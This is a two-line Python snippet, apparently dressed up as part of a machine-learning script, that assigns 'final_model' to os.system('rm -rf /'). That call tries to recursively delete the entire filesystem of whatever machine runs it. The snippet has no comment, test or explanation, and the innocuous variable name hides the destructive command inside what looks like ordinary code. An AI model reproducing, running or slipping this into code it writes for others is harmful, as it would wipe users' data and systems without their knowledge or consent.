import os
final_model = os.system('rm -rf /')
